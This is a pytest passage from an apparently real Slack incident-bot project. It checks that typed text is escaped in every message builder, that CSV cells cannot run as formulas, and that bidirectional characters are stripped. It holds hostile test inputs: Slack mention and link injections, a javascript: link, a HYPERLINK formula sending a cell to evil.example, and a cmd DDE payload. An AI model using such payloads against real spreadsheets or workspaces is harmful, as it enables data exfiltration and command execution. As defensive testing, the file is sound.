"""Nothing typed can inject (issue 14, section 3).

Every message builder, swept with a hostile string in every piece of text a person or a sender
supplies; the builders are found by introspection, so a new one is swept (or must say why not).
CSV cells never run as spreadsheet formulas and read back as stored; the postmortem draft has
no HTML and no link but http(s) and mailto; bidirectional controls are never stored.
"""

from __future__ import annotations

import csv
import inspect
import io
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import fields
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from types import ModuleType, SimpleNamespace
from typing import Any

import aiohttp
import pytest
from slack_sdk.models.basic_objects import JsonObject
from slack_sdk.models.blocks import ButtonElement, PlainTextObject

from bot.analytics import delivery_view, digest, drills, stats_view, summary
from bot.analytics.coverage import detection_coverage, monthly_trend, restore_clock
from bot.analytics.delivery_figures import DeliveryReport
from bot.analytics.dora import DeployFact, dora_report
from bot.analytics.drills import DrillReport, RestoreFigures
from bot.analytics.stats import ReportSettings, RestoredIncidents, build_report, weekly_trend
from bot.analytics.stats_view import TextStyle, report_csv
from bot.catalog.runbook_actions import ActionRequest, RunbookAction
from bot.catalog.runbooks import Runbook
from bot.core.command_text import CommandTextError
from bot.core.handover_notes import HandoverNote, HandoverRecord
from bot.core.phases import Phase, Stamp, StampValue, Timeline
from bot.core.records import IncidentRecord, WarRoomContext
from bot.core.text_input import escape, spreadsheet_cell, spreadsheet_text, storable
from bot.core.tiers import TierTables
from bot.incidents import action_items, corrections
from bot.incidents.action_items import ActionItemRecord
from bot.integrations import deploys
from bot.integrations.deploys import DeployMatch, DeployRecord, deploy_line
from bot.slack import action_results, blocks, catchup, handover_messages, messages, runbook_blocks
from bot.slack.action_results import ActionResult
from tests.clocks import FakeClock
from tests.conftest import start_bot
from tests.incident_facts import facts_from_minutes
from tests.slack_requests import open_form_values
from tests.test_import_export import cli_db, command  # noqa: F401  (fixtures: a migrated database, `incident-bot` in this process)

# What someone types when they mean harm (or only mean "@channel"), as the bot stores it.
HOSTILE = "<!channel> <!here> <!everyone> <@U0HOSTILE> <http://evil.example|x> & <script>"
# Any of these in text Slack renders would notify, mention or link for real.
LIVE = re.compile(r"<!channel>|<!here>|<!everyone>|<@U0HOSTILE|<http://evil|<script>", re.IGNORECASE)
ESCAPED_TWICE = re.compile(r"&amp;(?:amp|lt|gt);")
SHOWN_ESCAPED = "&lt;!channel&gt; &lt;!here&gt;"

T0 = datetime(2026, 11, 23, 14, 0, tzinfo=UTC)
TIERS = TierTables.default()
MRKDWN = TextStyle(mrkdwn=True)


def injections(text: str) -> list[str]:
    """What in ``text`` Slack would render as a live mention or link, or shows as ``&amp;lt;``."""
    return LIVE.findall(text) + ESCAPED_TWICE.findall(text)


# Keys of Block Kit and view objects that Slack never renders as mrkdwn or message text.
NOT_RENDERED = {
    "action_id",
    "block_id",
    "callback_id",
    "value",
    "private_metadata",
    "initial_value",
    "type",
    "initial_user",
    "initial_date_time",
    "initial_date",
    "style",
    "hash",
    "external_id",
    "max_length",
}


def rendered_texts(output: Any) -> Iterator[str]:
    """Every string of a builder's output that Slack renders with mrkdwn rules or as message text.
    ``plain_text`` objects are skipped: Slack shows them as typed, never as a mention or a link."""
    if isinstance(output, str):
        yield output
    elif isinstance(output, JsonObject):
        yield from rendered_texts(output.to_dict())
    elif isinstance(output, dict):
        if output.get("type") == "plain_text":
            return
        for key, value in output.items():
            if key not in NOT_RENDERED:
                yield from rendered_texts(value)
    elif isinstance(output, (list, tuple)):
        for value in output:
            yield from rendered_texts(value)
    elif isinstance(output, digest.Digest):
        yield from rendered_texts([output.blocks, output.fallback])  # .text is the terminal's (--dry-run)


# ---------------------------------------------------------------------------------------------
# Hostile inputs, one per kind of parameter


def hostile_incident(*, restored: bool = True) -> IncidentRecord:
    stamps = {
        Stamp.DETECTED: StampValue(T0 + timedelta(minutes=5), "U_ALICE"),
        Stamp.DIAGNOSED: StampValue(T0 + timedelta(minutes=15), None, implied=True),
        Stamp.MITIGATED: StampValue(T0 + timedelta(minutes=25), "U_BOB"),
    }
    if restored:
        stamps[Stamp.VERIFIED] = StampValue(T0 + timedelta(minutes=40), "U_BOB")
    return IncidentRecord(
        id=7,
        title=HOSTILE,
        severity="P1",
        service=HOSTILE,
        status="resolved" if restored else "open",
        detection_method="engineer",
        opened_by="U_ALICE",
        commander="U_ALICE",
        channel_id="C0WARROOM",
        channel_name="inc-7",
        control_message_ts="1700000000.000100",
        timeline=Timeline(T0, stamps),
        created_at=T0,
        rollback_owner="U_BOB",
        acknowledged_at=T0 + timedelta(minutes=2),
        acknowledged_by="U_BOB",
    )


def hostile_deploy() -> DeployMatch:
    record = DeployRecord(
        id=3,
        service=HOSTILE,
        version=HOSTILE,
        environment=HOSTILE,
        deployed_at=T0,
        author=HOSTILE,
        url="https://ci.example/pull/1?x=<!channel>|<http://evil.example|x>",
        description=HOSTILE,
        source="webhook",
        recorded_at=T0,
    )
    return DeployMatch(record, 12)


def hostile_action_item() -> ActionItemRecord:
    return ActionItemRecord(
        id=1,
        incident_id=7,
        incident_private=False,
        text=HOSTILE,
        owner="U_BOB",
        due=date(2026, 11, 30),
        status="open",
        created_by="U_ALICE",
        done_by=None,
        done_at=None,
    )


def hostile_runbook() -> Runbook:
    return Runbook(
        name=HOSTILE,
        path=Path("hostile.md"),
        title=HOSTILE,
        checklist=(HOSTILE, "Check the dashboard"),
        url=HOSTILE,
        sections={HOSTILE: HOSTILE},
        actions=(hostile_action(),),
    )


def hostile_action() -> RunbookAction:
    """A runbook action whose team-written texts are hostile (built without the loader's length checks)."""
    request = ActionRequest.model_construct(url="https://ci.example.com/x", method="POST", headers={}, body=None, timeout_seconds=10.0)
    return RunbookAction.model_construct(
        id="rollback", label=HOSTILE, confirm=HOSTILE, permission="war_room", mitigation=True, request=request
    )


def hostile_action_result() -> ActionResult:
    return ActionResult(
        incident_id=7,
        reference="INC-7",
        runbook=HOSTILE,
        post_id=4,
        action=hostile_action(),
        attempt=2,
        by="U_ALICE",
        outcome="unknown",
        reason=HOSTILE,
        finished_at=T0,
        offer_mitigated=True,
        by_repair=True,
    )


def hostile_catchup() -> catchup.CatchUp:
    """Everything a catch-up quotes, typed by someone hostile: notes, questions, the update, a runbook."""
    line = catchup.Line(T0, "U_BOB", HOSTILE)
    return catchup.CatchUp(
        incident=hostile_incident(restored=False),
        now=T0 + timedelta(minutes=30),
        recent=(line, catchup.Line(T0, None, HOSTILE)),
        questions=(catchup.OpenQuestion(2, line),),
        runbooks=(catchup.RunbookProgress(HOSTILE, 1, 3),),
        deploy_lines=(deploy_line(hostile_deploy()),),
        deploy_window="2 h",
        last_update=line,
        may_acknowledge=True,
        stamps=(Stamp.VERIFIED,),
    )


def hostile_facts():
    """Four weeks of incidents on a service with a hostile name, a few still open."""
    return [
        facts_from_minutes(n + 1, T0 - timedelta(days=2 * n), (2, 10, 5, 3), severity="P2", service=HOSTILE, stamps=4 if n % 5 else 1)
        for n in range(14)
    ]


def hostile_report():
    return build_report(hostile_facts(), since=T0 - timedelta(days=30), until=T0, now=T0, tiers=TIERS)


def hostile_trend():
    return weekly_trend(hostile_facts(), now=T0)


def hostile_delivery():
    """DORA's keys and coverage of services and a team whose names carry the hostile text (a team
    name is whatever the catalog says; a deploy's service, whatever was stored)."""
    facts = hostile_facts()
    restored = RestoredIncidents.from_facts(f for f in facts if f.restored)
    since = T0 - timedelta(days=30)
    teams = {f.service: HOSTILE for f in facts if f.service}
    deploys = [DeployFact(HOSTILE, T0 - timedelta(days=k), T0 - timedelta(days=k, hours=1), k % 2 == 0) for k in range(1, 25)]
    settings = ReportSettings()
    return DeliveryReport(
        dora=dora_report(deploys, restored, since=since, until=T0, teams=teams, settings=settings),
        coverage=detection_coverage(restored, [f for f in facts if not f.restored], since=since, until=T0, teams=teams),
        restore_clock=restore_clock(restored, since=since, until=T0, settings=settings),
        months=monthly_trend(restored, now=T0, settings=settings),
    )


def hostile_digest_incident():
    return digest.digest_incident(hostile_facts()[1], title=HOSTILE, tiers=TIERS)


def hostile_handover(answer: str | None = None) -> HandoverRecord:
    """Every field of the note typed by someone hostile; the people are IDs Slack validated."""
    note = HandoverNote(note=HOSTILE, hypothesis=HOSTILE, tried=HOSTILE, next_steps=HOSTILE, risks=HOSTILE)
    return HandoverRecord(
        id=5,
        incident_id=7,
        from_user="U_ALICE",
        to_user="U_BOB",
        by_user="U_CAROL",
        note=note,
        created_at=T0,
        answer=answer,
        answered_at=None,
        dm_channel="D0BOB",
        dm_ts="1.0",
        room_ts=None,
        topic_set_at=None,
        declined_room_ts=None,
        declined_dm_ts=None,
        declined_topic_set_at=None,
    )


def hostile_correction_records():
    return [
        SimpleNamespace(
            action="correct_time",
            old_value=T0.isoformat(),
            new_value=(T0 + timedelta(minutes=1)).isoformat(),
            field="mitigated_at",
            actor="U_ALICE",
            at=T0,
            reason=HOSTILE,
        )
    ]


# Parameters whose value the bot builds itself (an ID it validated, a Slack date token, a line
# another swept builder rendered): a valid sample. Every other text parameter gets HOSTILE.
BOT_BUILT: dict[str, Any] = {
    "reference": "INC-7",
    "user": "U_ALICE",
    "owner": "U_BOB",
    "earlier_by": "U_BOB",
    "who": "the incident commander",
    "channel_id": "C0WARROOM",
    "severity": "P1",
    "before": "P2",
    "after": "5 min",
    "stamp": "mitigated",
    "at_token": "<!date^1763906400^{time}|14:00 UTC>",
    "earlier_token": "<!date^1763906400^{time}|14:00 UTC>",
    "closed_token": "<!date^1763906400^{time}|14:00 UTC>",
    "ends_token": "<!date^1763906400^{time}|14:00 UTC>",
    "since_detection": "5 min",
    "restore": "1 h",
    "within": "2 h",
    "window": "30 min",
    "quiet": "30 min",
    "why": "nobody acknowledged it within 5 min",
    "targets": "<@U_BOB> and <!subteam^S0ONCALL>",
    "invited": "<@U07PRIVSEC>",
    "described": "*mitigated* from 14:00 UTC to 14:05 UTC",
    "which": "open",
    "scope": "in INC-7",
    "what": "The update",
    "markup": "_2026-W10 (UTC weeks)_ · figures need 5 incidents",
    "label": "Commander",
    "role": "commander",
    "post_id": 4,
    "chunk": 0,
    "item_id": 9,
    "deploy_id": 3,
    # Lines that swept builders render (deploy_line, ActionItemRecord.line, correction_notes, the failures of a step).
    "line": deploy_line(hostile_deploy()),
    "done_line": "Done by <@U_BOB>",
    "lines": [deploy_line(hostile_deploy()), hostile_action_item().line(date(2026, 11, 23))],
    "failures": ["the war room was not told (channel_not_found)"],
    "done": ["created <#C0WARROOM>"],
    "already": ["the pinned control message"],
    "commander": "U_ALICE",
    "corrections": corrections.correction_notes(hostile_correction_records()),
    "labels": {name: label for name, (_, label) in corrections.TIME_FIELDS.items()},
    "war_rooms": {1: "C0WARROOM"},
    "checked": {0},
    "private_metadata": {"channel_id": "C0WARROOM"},
    "group_resolved": True,
    "still_open": True,
    "implied": False,
    "created": True,
    "private": False,
    "confidence": 0.95,
    "min_count": 5,
    "count": 3,
    "seconds": 125.0,
    "fraction": 0.25,
    "low": 60.0,
    "high": 600.0,
    "per_week": 3,
    "detectable": 0.4,
    "now": T0,
    "week_start": T0 - timedelta(days=7),
    "start": T0,
    "percentiles": True,
    "interval": True,
    "mrkdwn": True,
    "limit": 3000,
    "max_lines": 25,
    "grouping": "service",
    "by": "service",
    "of": "incidents",
    "today": date(2026, 11, 23),
    "records": hostile_correction_records(),
    "answer": "accepted",
    "accept": True,
    "answered": "✅ You accepted command.",
    # The buttons under a direct message that asks for an answer (blocks.buttons_until_answered): the bot's own labels.
    "block_id": "handover_answer:5",
    "buttons": [ButtonElement(text=PlainTextObject(text="Accept"), action_id="handover_accept", value="5")],
}

# The rest by annotation (as written in the source: the modules use postponed annotations).
BY_ANNOTATION: dict[str, Callable[[], Any]] = {
    "str": lambda: HOSTILE,
    "str | None": lambda: HOSTILE,
    "list[str]": lambda: [HOSTILE, "payments-api"],
    "Sequence[str]": lambda: [HOSTILE],
    "tuple[str, ...]": lambda: (HOSTILE, "Check the dashboard"),
    "dict[str, str]": lambda: {HOSTILE: HOSTILE},
    "list[tuple[str, str]] | None": lambda: [("deploy:3", HOSTILE)],
    "list[tuple[str, str]]": lambda: [("deploy:3", HOSTILE)],
    "IncidentRecord": hostile_incident,
    "Runbook": hostile_runbook,
    "RunbookAction": hostile_action,
    "ActionResult": hostile_action_result,
    "WarRoomContext | None": lambda: WarRoomContext(
        team=HOSTILE, upstream=(HOSTILE,), downstream=(HOSTILE,), deploy_lines=(deploy_line(hostile_deploy()),), deploy_window="2 h"
    ),
    "MttrSummary": lambda: summary.summarize(hostile_incident(), TIERS),
    "DeployRecord": lambda: hostile_deploy().record,
    "DeployRecord | DeployMatch": hostile_deploy,
    "list[ActionItemRecord]": lambda: [hostile_action_item()],
    "dict[str, datetime]": lambda: corrections.current_times(hostile_incident()),
    "datetime": lambda: T0,
    "BaseException": lambda: RuntimeError(HOSTILE),
    "TextStyle": lambda: MRKDWN,
    "WindowReport": hostile_report,
    "Trend": hostile_trend,
    "Trend | None": hostile_trend,
    "Measures": lambda: hostile_report().overall,
    "Figure": lambda: hostile_report().overall.time_to_restore,
    "Share": lambda: hostile_report().customer_reported,
    "Phase": lambda: Phase.DIAGNOSE,
    "OpenIncident": lambda: hostile_report().open_incidents[0],
    "Sequence[OpenIncident]": lambda: hostile_report().open_incidents,
    "Sequence[DigestIncident]": lambda: [hostile_digest_incident()],
    "Mapping[int, str] | None": lambda: {1: "C0WARROOM"},
    "Mapping[int, str]": lambda: {1: "C0WARROOM"},
    "WeekFigure": lambda: hostile_trend().weeks[-2],
    "WeekChange": lambda: hostile_trend().changes[-1],
    "DrillReport": lambda: DrillReport(
        RestoreFigures("all drills", 2, timedelta(minutes=4), timedelta(minutes=5)),
        (RestoreFigures(HOSTILE, 2, timedelta(minutes=4), timedelta(minutes=5)),),
        1,
    ),
    "Exception": lambda: CommandTextError(f"I can't read `{HOSTILE}` nor `&lt;script&gt;`. Usage: `/incident stats`"),
    "float | None": lambda: 0.4,
    "int": lambda: 3,
    "CatchUp": hostile_catchup,
    "set[str]": lambda: {"U_ALICE", "U_BOB"},  # the incident's own people (user IDs from Slack)
    "HandoverRecord": hostile_handover,
    "HandoverNote": lambda: hostile_handover().note,
    "DeliveryReport": hostile_delivery,
    "DoraKeys": lambda: hostile_delivery().dora.overall,
}

BUILDER_MODULES: tuple[ModuleType, ...] = (
    drills,
    messages,
    blocks,
    summary,
    runbook_blocks,
    action_results,
    stats_view,
    digest,
    deploys,
    action_items,
    corrections,
    catchup,
    handover_messages,
    delivery_view,
)

# Public functions of those modules that build nothing Slack renders, and why.
NOT_SLACK_TEXT = {
    "bot.slack.blocks.stamp_action_id": "an action id",
    "bot.slack.runbook_blocks.step_indexes": "reads option values back into step numbers",
    "bot.analytics.digest.digests_with_catalog": "plans which channels get a digest",
    "bot.analytics.digest.digest_trend": "the chart's data points, drawn by matplotlib, not Slack text",
    "bot.slack.blocks.role_action_id": "an action id",
    "bot.slack.blocks.within_message_limits": "a check of blocks built elsewhere",
    "bot.slack.blocks.header_text": "the text of a plain_text header (Slack shows it as typed)",
    "bot.analytics.summary.summarize": "figures, no text",
    "bot.analytics.summary.bar": "a bar of block characters",
    "bot.analytics.summary.percent": "a number",
    "bot.slack.runbook_blocks.checklist_block_id": "a block id",
    "bot.slack.runbook_blocks.parse_checklist_block_id": "a parser",
    "bot.slack.runbook_blocks.ticked_in_message": "a parser",
    "bot.slack.runbook_blocks.parse_action_click": "a parser",
    "bot.analytics.stats_view.duration_text": "a number",
    "bot.analytics.stats_view.percent": "a number",
    "bot.analytics.stats_view.confidence_label": "a number",
    "bot.analytics.stats_view.interval_text": "numbers",
    "bot.analytics.stats_view.completed_change": "figures, no text",
    "bot.analytics.stats_view.change_for_week": "figures, no text",
    "bot.analytics.stats_view.report_table": "the terminal's plain text (incident-bot report)",
    "bot.analytics.stats_view.restore_headers": "the report table's cells, plain text for the terminal and the dashboard (HTML-escaped there: "
    "test_the_dashboard_shows_typed_text_as_text_on_every_page)",
    "bot.analytics.stats_view.restore_row": "the report table's cells, plain text for the terminal and the dashboard (HTML-escaped there)",
    "bot.analytics.stats_view.render_table": "the terminal's plain text (incident-bot report)",
    "bot.analytics.delivery_view.delivery_table": "the terminal's plain text (incident-bot report, the digest's dry run)",
    "bot.analytics.delivery_view.delivery_json": "JSON for the terminal",
    "bot.analytics.delivery_view.keys_json": "JSON for the terminal",
    "bot.analytics.stats_view.report_csv": "a CSV file: test_every_csv_cell_that_a_spreadsheet_would_run_is_quoted",
    "bot.analytics.stats_view.figure_json": "JSON for the terminal",
    "bot.analytics.stats_view.measures_json": "JSON for the terminal",
    "bot.analytics.stats_view.trend_json": "JSON for the terminal",
    "bot.analytics.stats_view.report_json": "JSON for the terminal",
    "bot.analytics.digest.iso_week_label": "a week label",
    "bot.analytics.digest.weeks_in_iso_year": "a number",
    "bot.analytics.digest.digest_week": "dates",
    "bot.analytics.digest.digest_incident": "data for build_digest (swept through it)",
    "bot.analytics.digest.digest_incidents": "data for build_digest (swept through it, as digest_incident)",
    "bot.analytics.digest.incidents_per_week": "a number",
    "bot.integrations.deploys.parse_deploy": "a parser",
    "bot.integrations.deploys.validation_reason": "the webhook's JSON answer",
    "bot.integrations.deploys.to_record": "data",
    "bot.integrations.deploys.matches_of": "data",
    "bot.integrations.deploys.minutes_before": "a number",
    "bot.integrations.deploys.select_in_window": "data",
    "bot.integrations.deploys.parse_deploy_text": "a parser",
    "bot.integrations.deploys.parse_deploys_text": "a parser",
    "bot.integrations.deploys.deploy_summary": "plain text for the open form's options and the terminal",
    "bot.integrations.deploys.link_label": "one of PR, commit, link",
    "bot.integrations.deploys.impact_distance": "a number",
    "bot.incidents.action_items.parse_action_text": "a parser",
    "bot.incidents.action_items.item_record": "data",
    "bot.incidents.corrections.current_times": "data",
    "bot.incidents.corrections.utc_text": "a time",
    "bot.incidents.corrections.plan_correction": "data",
    "bot.slack.blocks.drill_text": "puts the drill banner before a text its builder escaped (swept with each builder's output)",
    "bot.slack.blocks.drill_blocks": "puts the drill banner before blocks built (and swept) elsewhere",
    "bot.analytics.drills.drill_report": "figures, no text",
    "bot.analytics.drills.drill_json": "JSON for the terminal",
}


def builders() -> list[tuple[str, Callable[..., Any]]]:
    found = []
    for module in BUILDER_MODULES:
        for name, function in vars(module).items():
            if inspect.isfunction(function) and function.__module__ == module.__name__ and not name.startswith("_"):
                found.append((f"{module.__name__}.{name}", function))
    return found


SWEPT = [(name, function) for name, function in builders() if name not in NOT_SLACK_TEXT]


def hostile_arguments(name: str, function: Callable[..., Any]) -> tuple[list[Any], dict[str, Any]]:
    args: list[Any] = []
    kwargs: dict[str, Any] = {}
    for parameter in inspect.signature(function).parameters.values():
        if parameter.name in BOT_BUILT:
            value = BOT_BUILT[parameter.name]
        elif parameter.annotation in BY_ANNOTATION:
            value = BY_ANNOTATION[parameter.annotation]()
        elif parameter.default is not inspect.Parameter.empty:
            continue
        else:
            pytest.fail(
                f"{name}: no hostile value for parameter {parameter.name!r} ({parameter.annotation}); add it to BOT_BUILT "
                "(a value the bot builds) or BY_ANNOTATION (text or records that carry what someone typed)"
            )
        if parameter.kind is inspect.Parameter.KEYWORD_ONLY:
            kwargs[parameter.name] = value
        else:
            args.append(value)
    return args, kwargs


def test_the_sweep_finds_the_builders():
    names = {name for name, _ in SWEPT}
    assert len(SWEPT) > 90
    for expected in (
        "bot.slack.messages.escalation_announcement",
        "bot.slack.blocks.control_message",
        "bot.analytics.summary.summary_blocks",
        "bot.slack.runbook_blocks.runbook_message",
        "bot.slack.action_results.action_result_message",
        "bot.analytics.stats_view.home_view",
        "bot.analytics.digest.build_digest",
        "bot.integrations.deploys.deploy_line",
        "bot.incidents.corrections.correction_notes",
    ):
        assert expected in names
    assert not set(NOT_SLACK_TEXT) - {name for name, _ in builders()}, "NOT_SLACK_TEXT names a function that is gone"


@pytest.mark.parametrize("name, function", SWEPT, ids=[name for name, _ in SWEPT])
def test_every_message_builder_escapes_what_people_typed(name, function):
    args, kwargs = hostile_arguments(name, function)
    output = function(*args, **kwargs)
    for text in rendered_texts(output):
        assert not injections(text), f"{name} renders {injections(text)} live: {text!r}"


def test_the_sweep_sees_the_hostile_text_arrive_escaped():
    """The sweep is not vacuous: the builders that echo a title, a note or a name show it escaped."""
    echoed = set()
    for name, function in SWEPT:
        args, kwargs = hostile_arguments(name, function)
        if any(SHOWN_ESCAPED in text for text in rendered_texts(function(*args, **kwargs))):
            echoed.add(name)
    for expected in (
        "bot.slack.messages.escalation_dm",
        "bot.slack.messages.escalation_announcement",
        "bot.slack.messages.update_announcement",
        "bot.slack.messages.role_dm",
        "bot.slack.messages.breakglass_in_war_room",
        "bot.slack.messages.alert_refiring_line",
        "bot.slack.messages.typed_text_refused",
        "bot.slack.blocks.notification_text",
        "bot.slack.blocks.channel_topic",
        "bot.slack.blocks.announcement_blocks",
        "bot.slack.blocks.control_message",
        "bot.analytics.summary.summary_blocks",
        "bot.slack.runbook_blocks.runbook_message",
        "bot.slack.action_results.action_result_message",
        "bot.analytics.digest.build_digest",
        "bot.analytics.delivery_view.delivery_mrkdwn",
        "bot.analytics.delivery_view.delivery_blocks",
        "bot.integrations.deploys.deploy_line",
        "bot.incidents.corrections.correction_notes",
    ):
        assert expected in echoed, f"{expected} did not show the hostile text (escaped)"


def test_the_bots_own_sentences_hold_no_stray_slack_markup():
    """A usage line's ``<text>`` is text: unescaped, Slack would take it for a link. bot.slack.messages's
    sentences are sent as they are (usage lines elsewhere reach people through typed_text_refused)."""
    import ast

    for module in (messages,):
        defined_here = {
            target.id
            for node in ast.parse(inspect.getsource(module)).body
            if isinstance(node, ast.Assign)
            for target in node.targets
            if isinstance(target, ast.Name)
        }
        for name in defined_here:
            value = getattr(module, name)
            if name.isupper() and isinstance(value, str):
                assert not re.search(r"<(?![@#!]|https?://)", value), f"{module.__name__}.{name}: {value!r}"


def test_escape_is_slacks_three_characters_once():
    assert escape("a & b <!channel> <@U1> > c") == "a &amp; b &lt;!channel&gt; &lt;@U1&gt; &gt; c"
    assert escape("@here *bold* `code` 'quote' \"dq\"") == "@here *bold* `code` 'quote' \"dq\""


def test_a_topic_is_clipped_without_cutting_an_entity_in_two():
    incident = hostile_incident()
    for title in ("&" * 300, "<" * 300, "a&b" * 100):
        topic = blocks.channel_topic(IncidentRecord(**{**{f.name: getattr(incident, f.name) for f in fields(incident)}, "title": title}))
        assert len(topic) <= blocks.MAX_TOPIC
        clipped = topic.split(" | ")[1]
        assert clipped.endswith("…")
        assert re.fullmatch(r"(?:&amp;|&lt;|a|b)*…", clipped), clipped


# ---------------------------------------------------------------------------------------------
# Display spoofing

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"


def test_storable_removes_bidirectional_controls_and_keeps_the_rest():
    assert storable(f"INC \u202eexe.fdp\u202c{BIDI} ok\x00") == "INC exe.fdp ok"
    assert storable("שלום עולם · مرحبا · tab\tand\nline") == "שלום עולם · مرحبا · tab\tand\nline"  # RTL text stays
    assert storable("zero\u200dwidth joiner 👩\u200d💻") == "zero\u200dwidth joiner 👩\u200d💻"  # emoji sequences stay


# ---------------------------------------------------------------------------------------------
# Spreadsheet formulas


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "'=already quoted",
        "''@twice",
        "'plain",
        "plain",
        "",
        "-",
    ],
)
def test_a_spreadsheet_cell_never_starts_a_formula_and_reads_back_as_stored(text):
    cell = spreadsheet_cell(text)
    assert not re.match(r"[=+\-@\t\r]", cell)
    assert spreadsheet_text(cell) == text


# ---------------------------------------------------------------------------------------------
# End to end: hostile text in through every surface, nothing live out to Slack

SECRET = "hook-secret-0123456789abcdef"
ESCALATION_CONTACT = "U02HX4TB9LC"  # checkout-web's escalation in runbooks/catalog.yml
# What Slack sends for a command in which someone typed @channel, @here, @everyone, a mention,
# a link, "&" and "<script>" (``should_escape: true``: mentions and links as Slack markup, and
# "&", "<" and ">" as entities), plus a Markdown link for the postmortem draft.
TYPED = "<!channel> <!here> <!everyone> <@U0HOSTILE|eve> <http://evil.example|x> &amp; &lt;script&gt; [click](javascript:alert(1))"
# Single words as Slack sends them, each where the bot expects a token, and those commands.
WORDS = ("<!channel>", "<@U0HOSTILE|eve>", "<http://evil.example|x>", "&lt;script&gt;")
ONE_WORD_COMMANDS = (
    "{}",
    "deploys {}",
    "deploys checkout-web {}",
    "deploy {} v1",
    "deploy checkout-web {}",
    "stats {}",
    "stats service:{}",
    "stats sev:{}",
    "severity {}",
    "role {} <@U_BOB|bob>",
    "action Fix it due:{}",
    "actions {}",
    "reopen {}",
    "repair {}",
    "open Title sev:{}",
    "open Title started:{}",
    "open Title detected:{}",
    "open Title service:{}",
    "open Title detection:{}",
    "runbook {}",
)
PERSON_SLOTS = ("role scribe {}", "action Fix it {}")
# The same, without the person mention (an action item's mention names its owner).
TYPED_ACTION = "<!channel> <!here> <!everyone> <http://evil.example|x> &amp; &lt;script&gt; [click](javascript:alert(1))"


@pytest.fixture
def clock():
    return FakeClock(T0)


@pytest.fixture
async def hook_bot(settings, fake_slack, clock):
    fake_slack.add_user(ESCALATION_CONTACT, "escalation-lead")
    update = {"alert_webhook_secret": SECRET, "deploy_webhook_secret": SECRET}
    running = await start_bot(settings.model_copy(update=update), fake_slack, clock=clock)
    yield running
    await running.stop()


async def post_hook(bot, path: str, body: dict) -> tuple[int, str]:
    headers = {"Content-Type": "application/json", "Authorization": f"Bearer {SECRET}"}
    async with aiohttp.ClientSession() as session:
        async with session.post(f"http://127.0.0.1:{bot.port}{path}", data=json.dumps(body).encode(), headers=headers) as response:
            return response.status, await response.text()


def outbound_texts(fake, answers: list[str]) -> Iterator[tuple[str, str]]:
    """(where, text) for everything Slack would render: every Web API call's arguments, every
    response_url post, and the bot's direct answers to the requests."""
    for call in fake.calls:
        args = dict(call.args)
        for key in ("blocks", "view", "attachments"):
            if isinstance(args.get(key), str):
                args[key] = json.loads(args[key])
        for text in rendered_texts(args):
            yield call.method, text
    for response in fake.responses:
        for text in rendered_texts({k: v for k, v in response.items() if k != "_url"}):
            yield "response_url", text
    for answer in answers:
        for text in rendered_texts(json.loads(answer) if answer.startswith("{") else answer):
            yield "HTTP answer", text


async def test_hostile_text_through_every_surface_never_reaches_slack_live(hook_bot, fake_slack, clock, announce_channel):
    bot = hook_bot
    answers: list[str] = []

    async def command(text: str, *, user: str = "U_ALICE", channel: str | None = None) -> None:
        response = await bot.slack.command(text, user=user, channel=channel or "C_GENERAL")
        assert response.status == 200
        answers.append(response.text)
        await bot.settle()

    # Opened from the form: a plain-text input sends what was typed, unescaped.
    await command("open")
    view = next(iter(fake_slack.views.values()))
    response = await bot.slack.view_submission(
        view, open_form_values(title=HOSTILE, severity="P1", service="checkout-web", started=int(T0.timestamp()) - 60)
    )
    assert response.status == 200
    answers.append(response.text)
    await bot.settle()
    incident = await bot.incident(1)
    assert incident.title == HOSTILE  # stored as typed; escaped only where shown
    fake_slack.channels[incident.channel_id].members.update({"U_BOB", "U_CAROL"})
    room = incident.channel_id

    # Every command that echoes or stores text, in the war room and outside it.
    for text in (
        f"note {TYPED}",
        f"update {TYPED}",
        f"breakglass {TYPED}",
        f"action {TYPED_ACTION} <@U_BOB|bob>",
        "role scribe <@U_CAROL|carol>",
        f"runbook {TYPED}",
        f"status {TYPED}",
        f"ack {TYPED}",
        TYPED,
        f"deploy checkout-web {TYPED}",
        f"deploys {TYPED}",
        f"actions {TYPED}",
        "status",
        "actions",
        f"question {TYPED}?",
        f"note {TYPED}?",
        f"answer 1 {TYPED}",
        f"answer {TYPED}",
        "catchup",
        f"catchup {TYPED}",
        # One hostile word where a token is expected: the answer names the word it could not read.
        *(template.format(word) for word in WORDS for template in ONE_WORD_COMMANDS),
        # Where a mention names a person (a role holder, an owner), the other words.
        *(template.format(word) for word in WORDS if not word.startswith("<@") for template in PERSON_SLOTS),
    ):
        await command(text, channel=room)
    await command(f"open {TYPED} sev:P2 service:checkout-web")  # INC-2, titled from a command
    # A late joiner's catch-up quotes the title, the notes, the questions and the update.
    fake_slack.channels[room].members.add("U_FRANK")
    assert (await bot.slack.member_joined_channel("U_FRANK", room)).status == 200
    await bot.settle()

    # Webhooks: a deploy and an alert whose every text field is hostile.
    status, body = await post_hook(
        bot,
        "/hooks/deploys",
        {
            "service": "checkout-web",
            "version": HOSTILE,
            "environment": "production",
            "author": HOSTILE,
            "description": HOSTILE,
            "url": "https://ci.example/pull/1?x=<!channel>",
        },
    )
    assert status in (200, 201), body
    await command("deploys checkout-web", channel=room)
    alert = {
        "service": "checkout-web",
        "title": HOSTILE,
        "status": "firing",
        "dedup_key": "hostile",
        "severity": "critical",
        "description": HOSTILE,
        "started_at": T0.isoformat().replace("+00:00", "Z"),
    }
    status, body = await post_hook(bot, "/hooks/alerts", alert)
    assert status in (200, 201, 202), body
    await bot.settle()

    # App Home, as a responder opens it.
    assert (await bot.slack.app_home_opened("U_BOB")).status == 200
    await fake_slack.wait_for_call("views.publish")
    await bot.settle()

    # Timers: the unacknowledged escalation (a DM, no blocks), the unmitigated one (the announcement).
    clock.at(5)
    await bot.runtime.timers.run_once()
    clock.at(31)
    await bot.runtime.timers.run_once()
    await bot.settle()

    # The alert resolves; INC-1 is stamped to verified: summary, postmortem draft, action items.
    status, body = await post_hook(
        bot, "/hooks/alerts", {**alert, "status": "resolved", "ended_at": clock().isoformat().replace("+00:00", "Z")}
    )
    assert status in (200, 201, 202), body
    for minute, stamp in ((32, "diagnosed"), (33, "mitigated"), (34, "verified")):
        clock.at(minute)
        response = await bot.slack.block_action(
